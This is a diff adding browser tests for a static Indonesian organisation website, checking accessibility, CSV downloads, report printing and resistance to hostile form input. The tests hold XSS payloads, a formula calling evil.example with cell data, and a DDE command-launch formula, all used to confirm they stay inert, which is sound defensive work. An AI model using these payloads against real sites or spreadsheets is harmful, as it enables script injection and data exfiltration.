@@ -1,8 +1,16 @@
 """The sample site in a real headless Chromium (Debian's, driven by Playwright):
 each page type loads without console errors or requests off this machine, the
-explorer's filters narrow the list, axe-core finds no serious or critical
+explorer's filters narrow the list and "download what I see" saves exactly the
+rows shown, axe-core finds no serious or critical
 accessibility violation, a screenshot of each page type is kept, the QR code on
 a form's page scans off the screen, and each A4 poster prints on one A4 page.
+
+The hostile Forms corpus (tests/fixtures/hostile_forms/) pulled and built: on every
+page nothing runs (a page-level sentinel and the Content Security Policy's violation
+events watch), no request leaves 127.0.0.1, every payload reads as the literal text
+it was typed, no file outside the repository was read into the site, and its
+downloads keep formulas inert. The policy blocks a script injected into a real page
+as if escaping had failed, and Material's drawer, search and the explorer still work.
 
 All browser tests live in this one module so one pytest worker owns the browser.
 `make test` installs Chromium (apt) and axe-core (npm ci).
@@ -11,21 +19,27 @@ All browser tests live in this one module so one pytest worker owns the browser.
 from __future__ import annotations
 
 import contextlib
+import csv
 import functools
 import io
+import json
 import threading
+import urllib.request
+from collections import defaultdict
 from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from urllib.parse import urlsplit
 
+import openpyxl
 import pypdf
 import pytest
 from playwright.sync_api import sync_playwright
 
-from scripts import joining, store
+from scripts import joining, pages, pull, sources, store
 
 from .conftest import REPO, decode_qr
-from .sitebuild import FORMS, build_fixture, build_sample
+from .privacy import HOSTILE_FORMS
+from .sitebuild import FIXTURES, FORMS, build_fixture, build_sample, config_with_forms
 
 CHROMIUM = "/usr/bin/chromium"
 # Without the background-networking flags Chromium keeps calling home.
@@ -39,6 +53,20 @@ CHROMIUM_ARGS = [
     "--no-first-run",
 ]
 AXE = REPO / "node_modules" / "axe-core" / "axe.min.js"
+# Installed in every page before its own scripts: records every call of what injected
+# code calls first (alert …; not eval, which Playwright's own evaluate() uses) and every
+# Content Security Policy violation, so a payload that runs is seen running, not
+# guessed from the HTML.
+SENTINEL = """
+window.__ran = [];
+for (const name of ["alert", "confirm", "prompt", "print", "open"]) {
+  window[name] = (...args) => window.__ran.push(`${name}: ${String(args[0]).slice(0, 80)}`);
+}
+window.__violations = [];
+document.addEventListener("securitypolicyviolation", (event) => {
+  window.__violations.push(`${event.effectiveDirective}: ${event.blockedURI || event.sample}`);
+});
+"""
 SCREENSHOTS = REPO / "test-output" / "screenshots"
 
 
@@ -85,6 +113,7 @@ class Visit:
         self.context = browser.new_context(
             viewport={"width": 390, "height": 844}, **context_options
         )
+        self.context.add_init_script(SENTINEL)
         self.page = self.context.new_page()
         self.page.on("console", lambda m: m.type == "error" and self.errors.append(m.text))
         self.page.on("pageerror", lambda e: self.errors.append(str(e)))
@@ -103,6 +132,10 @@ class Visit:
             self.offsite.append(route.request.url)
             route.abort()
 
+    def ran(self) -> list[str]:
+        """What injected code ran or tried to run on the current page (see SENTINEL)."""
+        return self.page.evaluate("[...window.__ran, ...window.__violations]")
+
     def close(self):
         self.context.close()
 
@@ -118,11 +151,26 @@ def page_types(site) -> dict[str, str]:
         "penjelajah": f"{base}program/",
         "bergabung": f"{base}bergabung/",
         "poster": f"{base}bergabung/poster/",
+        "data-terbuka": f"{base}data/",
+        "laporan": f"{base}laporan/{program['year']}/",
+        "pembaruan": f"{base}pembaruan/",
     }
 
 
 @pytest.mark.parametrize(
-    "kind", ["beranda", "sektor", "anggota", "program", "penjelajah", "bergabung", "poster"]
+    "kind",
+    [
+        "beranda",
+        "sektor",
+        "anggota",
+        "program",
+        "penjelajah",
+        "bergabung",
+        "poster",
+        "data-terbuka",
+        "laporan",
+        "pembaruan",
+    ],
 )
 def test_page_loads_cleanly_and_is_accessible(browser, site, kind):
     visit = Visit(browser, page_types(site)[kind])
@@ -131,7 +179,8 @@ def test_page_loads_cleanly_and_is_accessible(browser, site, kind):
         assert page.locator("footer time").inner_text().strip()
         SCREENSHOTS.mkdir(parents=True, exist_ok=True)
         page.screenshot(path=str(SCREENSHOTS / f"{kind}.png"), full_page=True)
-        page.add_script_tag(path=str(AXE))
+        # Evaluated, not added as a <script>: the page's policy refuses inline scripts.
+        page.evaluate(AXE.read_text(encoding="utf-8"))
         result = page.evaluate("axe.run(document, {resultTypes: ['violations']})")
         serious = [
             (v["id"], v["impact"], [n["target"] for n in v["nodes"]][:3])
@@ -141,6 +190,7 @@ def test_page_loads_cleanly_and_is_accessible(browser, site, kind):
         assert serious == []
         assert visit.errors == []
         assert visit.offsite == []
+        assert visit.ran() == []
     finally:
         visit.close()
 
@@ -200,6 +250,99 @@ def test_explorer_without_javascript_is_the_whole_table(browser, site):
     try:
         assert visit.page.locator("#explorer-filters").is_hidden()
         assert visible_rows(visit.page).count() == len(data["programs"])
+    finally:
+        visit.close()
+
+
+def read_csv(raw: bytes) -> list[dict]:
+    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
+    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+
+
+def download_shown(page, tmp_path) -> tuple[list[str], list[dict]]:
+    """Press "Unduh yang tampil (CSV)": (the ids of the rows shown, the rows saved)."""
+    shown = visible_rows(page).evaluate_all("rows => rows.map(r => r.dataset.id)")
+    with page.expect_download() as download:
+        page.click("#explorer-download")
+    saved = tmp_path / download.value.suggested_filename
+    download.value.save_as(saved)
+    return shown, read_csv(saved.read_bytes())
+
+
+def published_rows(base: str) -> dict[str, dict]:
+    with urllib.request.urlopen(f"{base}data/programs.csv") as response:
+        return {row["id"]: row for row in read_csv(response.read())}
+
+
+def test_explorer_downloads_exactly_what_it_shows(browser, site, tmp_path):
+    base, data = site
+    visit = Visit(browser, f"{base}program/", accept_downloads=True)
+    try:
+        page = visit.page
+        program = data["programs"][0]
+        page.select_option("#f-sektor", program["sector"])
+        page.select_option("#f-tahun", str(program["year"]))
+        shown, rows = download_shown(page, tmp_path)
+        expected = {
+            p["id"]
+            for p in data["programs"]
+            if p["sector"] == program["sector"] and p["year"] == program["year"]
+        }
+        assert [row["id"] for row in rows] == shown and set(shown) == expected
+        assert 1 < len(rows) < len(data["programs"])
+        published = published_rows(base)
+        assert rows == [published[key] for key in shown]  # programs.csv's columns and cells
+
+        page.click("#explorer-filters button[type=reset]")
+        page.fill("#f-q", "zzz tidak ada")
+        assert download_shown(page, tmp_path) == ([], [])  # the header alone
+        assert visit.errors == [] and visit.offsite == []
+    finally:
+        visit.close()
+
+
+def test_explorer_download_neutralises_formulas_as_programs_csv_does(browser, tmp_path):
+    data = store.load(FIXTURES / "site")
+    data["programs"][0].update(
+        title='=HYPERLINK("http://x","y")',
+        description='+1, "dua"\nbaris dua',
+        partner="@SUM(A1)",
+        location="\t-2",
+    )
+    store.save(tmp_path / "data", data)
+    site_dir = tmp_path / "site"
+    config = config_with_forms(tmp_path, FORMS)
+    assert pages.build(tmp_path / "data", site_dir, tmp_path / "build", config) == 0
+    with serve(site_dir) as base:
+        visit = Visit(browser, f"{base}program/", accept_downloads=True)
+        try:
+            shown, rows = download_shown(visit.page, tmp_path)
+            assert rows == list(published_rows(base)[key] for key in shown)
+            (hostile,) = [row for row in rows if row["id"] == data["programs"][0]["id"]]
+            assert hostile["title"] == '\'=HYPERLINK("http://x","y")'
+            assert hostile["location"] == "'\t-2"
+            assert visit.errors == [] and visit.offsite == []
+        finally:
+            visit.close()
+
+
+def test_annual_report_prints_on_a4_without_the_site_around_it(browser, site):
+    base, data = site
+    year = data["programs"][0]["year"]
+    visit = Visit(browser, f"{base}laporan/{year}/")
+    try:
+        page = visit.page
+        reader = pypdf.PdfReader(io.BytesIO(page.pdf(format="A4", prefer_css_page_size=True)))
+        box = reader.pages[0].mediabox
+        assert abs(float(box.width) - 595) <= 1 and abs(float(box.height) - 842) <= 1
+        first = " ".join(reader.pages[0].extract_text().split())
+        assert f"Laporan Tahunan {year}" in first
+        assert page.locator('[data-figure="amount"]').inner_text() in first
+        page.emulate_media(media="print")
+        assert page.locator(".md-header, .md-sidebar, .md-footer, .report-tools").evaluate_all(
+            "nodes => nodes.every(n => getComputedStyle(n).display === 'none')"
+        )
+        assert visit.errors == [] and visit.offsite == []
     finally:
         visit.close()
 
@@ -272,5 +415,173 @@ def test_poster_prints_on_one_a4_page_with_nothing_cut(browser, site, key):
         SCREENSHOTS.mkdir(parents=True, exist_ok=True)
         page.screenshot(path=str(SCREENSHOTS / f"poster-{form.page}-cetak.png"), full_page=True)
         assert visit.errors == [] and visit.offsite == []
+    finally:
+        visit.close()
+
+
+# --- the hostile Forms corpus, and the Content Security Policy --------------------
+
+# What spreadsheets run as a formula (OWASP, "CSV injection").
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture(scope="module")
+def hostile_forms_site(tmp_path_factory):
+    """The hostile Forms corpus pulled, built and served: (base URL, data, site dir)."""
+    root = tmp_path_factory.mktemp("hostile-forms")
+    paths = {key: HOSTILE_FORMS / f"{key}.csv" for key in sources.SHEET_KEYS}
+    assert pull.run("csv", root / "data", paths=paths) == 0
+    site_dir = root / "site"
+    config = config_with_forms(root, FORMS)
+    assert pages.build(root / "data", site_dir, root / "build", config) == 0
+    with serve(site_dir) as base:
+        yield base, store.load(root / "data"), site_dir
+
+
+def shown_texts(data: dict) -> dict[str, list[str]]:
+    """Page path → the values of data/ it shows as text."""
+    shown = defaultdict(list)
+    for m in data["members"]:
+        keys = ("name", "legal_form", "industry", "address", "kelurahan")
+        shown[f"anggota/{m['id']}/"] += [m[k] for k in keys if m[k]]
+        shown[f"anggota/{m['id']}/"] += [
+            m["contact"][k] for k in ("name", "title") if m.get("contact")
+        ]
+        shown["anggota/"].append(m["name"])
+    for p in data["programs"]:
+        keys = ("title", "description", "location", "partner")
+        shown[f"program/{p['id']}/"] += [p[k] for k in keys if p[k]]
+        shown["program/"].append(p["title"])
+    for need in data["needs"]:
+        shown["kebutuhan/"] += [need[k] for k in ("title", "proposer", "description") if need[k]]
+    return shown
+
+
+def _words(text: str) -> str:
+    return " ".join(text.split())
+
+
+def test_hostile_forms_run_nothing_and_read_as_typed_on_every_page(browser, hostile_forms_site):
+    base, data, site_dir = hostile_forms_site
+    passwd = Path("/etc/passwd").read_text(encoding="utf-8").splitlines()[0]
+    for path in site_dir.rglob("*"):
+        # No include of a file outside the repository ever ran.
+        assert not path.is_file() or passwd.encode() not in path.read_bytes(), path
+    shown = shown_texts(data)
+    # The page titles come from the front matter: a broken one would fall back to the file name.
+    titles = {f"anggota/{m['id']}/": m["name"] for m in data["members"]}
+    titles |= {f"program/{p['id']}/": p["title"] for p in data["programs"]}
+    urls = sorted(
+        str(p.relative_to(site_dir)).removesuffix("index.html") for p in site_dir.rglob("*.html")
+    )
+    assert len(urls) > 40 and all(key in urls for key in shown)
+    visit = Visit(browser, base)  # one context and page for them all: fast
+    try:
+        page = visit.page
+        for url in urls:
+            page.goto(base + url, wait_until="domcontentloaded")
+            assert visit.ran() == [], url
+            if url in shown:  # laid out as a reader sees it: slower, so where data shows
+                text = _words(page.inner_text("body"))
+                missing = [value for value in shown[url] if _words(value) not in text]
+                assert missing == [], url
+            if url in titles:
+                assert _words(page.title()).startswith(_words(titles[url]) + " - "), url
+        page.goto(base, wait_until="load")
+        page.keyboard.press("s")  # Material's search: results are built from the index
+        page.locator("input.md-search__input").press_sequentially("alert", delay=20)
+        results = page.locator(".md-search-result__list")
+        results.locator("li").first.wait_for()
+        assert "<script>" in results.inner_text()
+        assert page.locator(".md-search-result :is(img, script, iframe, svg[onload])").count() == 0
+        assert visit.ran() == [] and visit.errors == [] and visit.offsite == []
+    finally:
+        visit.close()
+
+
+def _cells(path: Path) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(path.read_text("utf-8-sig"))) for cell in row]
+
+
+def test_hostile_forms_downloads_keep_formulas_inert(browser, hostile_forms_site, tmp_path):
+    base, data, site_dir = hostile_forms_site
+    downloads = site_dir / "data"
+    csv_cells = [cell for path in downloads.rglob("*.csv") for cell in _cells(path)]
+    assert len(list(downloads.rglob("*.csv"))) > 10
+    assert [cell for cell in csv_cells if cell.startswith(FORMULA_START)] == []
+    assert '\'=HYPERLINK("https://evil.example/?x="&A1,"Klik")' in csv_cells
+    workbooks = list(downloads.rglob("*.xlsx"))
+    assert len(workbooks) >= 2  # the open data and an annual report
+    strings = []
+    for path in workbooks:
+        for sheet in openpyxl.load_workbook(path).worksheets:
+            for cell in (c for row in sheet.iter_rows() for c in row if c.value is not None):
+                assert cell.data_type != "f", (path.name, sheet.title, cell.coordinate)
+                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
+                    assert cell.quotePrefix, (path.name, sheet.title, cell.coordinate)
+                    strings.append(cell.value)
+    assert "=1+1" in strings and "+cmd|' /C calc'!A0" in strings
+    programs = json.loads((downloads / "programs.json").read_text(encoding="utf-8"))
+    assert {p["title"] for p in programs} == {p["title"] for p in data["programs"]}  # as typed
+    visit = Visit(browser, f"{base}program/", accept_downloads=True)
+    try:
+        _, rows = download_shown(visit.page, tmp_path)
+        assert len(rows) == len(data["programs"])
+        saved = [cell for row in rows for cell in row.values()]
+        assert [cell for cell in saved if cell.startswith(FORMULA_START)] == []
+        assert "'=1+1" in saved
+        assert visit.ran() == [] and visit.errors == [] and visit.offsite == []
+    finally:
+        visit.close()
+
+
+# Injected into a built page's content as if escaping had failed; the policy must stop it.
+INJECTED = (
+    '<script>window.__pwned = "script"</script>'
+    "<img src=x onerror=\"window.__pwned = 'onerror'\">"
+    "<a id=injected href=\"javascript:window.__pwned = 'link'\">x</a>"
+    '<img src="https://evil.example/x.png">'
+)
+
+
+def test_the_policy_blocks_an_injected_script_and_lets_material_work(browser, site):
+    base, data = site
+    visit = Visit(browser, base)
+    try:
+        page = visit.page
+        article = '<article class="md-content__inner md-typeset">'
+
+        def inject(route):
+            response = route.fetch()
+            body = response.text()
+            assert article in body
+            route.fulfill(response=response, body=body.replace(article, article + INJECTED))
+
+        page.route(f"{base}anggota/", inject)  # after Visit's route: tried first
+        page.goto(f"{base}anggota/", wait_until="load")
+        page.click("#injected")
+        assert page.evaluate("window.__pwned") is None
+        blocked = visit.ran()
+        assert {v.split(":")[0] for v in blocked} == {
+            "script-src-elem",
+            "script-src-attr",
+            "img-src",
+        }
+        assert visit.offsite == []  # refused by the policy before any request
+        page.unroute(f"{base}anggota/")
+
+        visit.errors.clear()
+        page.goto(base, wait_until="load")  # Material under the policy: the drawer …
+        page.click("label.md-header__button[for=__drawer]")
+        page.locator(".md-nav--primary").first.wait_for(state="visible")
+        page.keyboard.press("Escape")
+        page.goto(f"{base}sektor/", wait_until="load")  # … search …
+        page.keyboard.press("s")
+        page.locator("input.md-search__input").press_sequentially("kesehatan", delay=20)
+        page.locator(".md-search-result__list li").first.wait_for()
+        page.goto(f"{base}program/", wait_until="load")  # … and the explorer's filters
+        page.select_option("#f-sektor", data["programs"][0]["sector"])
+        assert page.locator("#explorer-count").inner_text().startswith("Menampilkan")
+        assert visit.ran() == [] and visit.errors == [] and visit.offsite == []
     finally:
         visit.close()
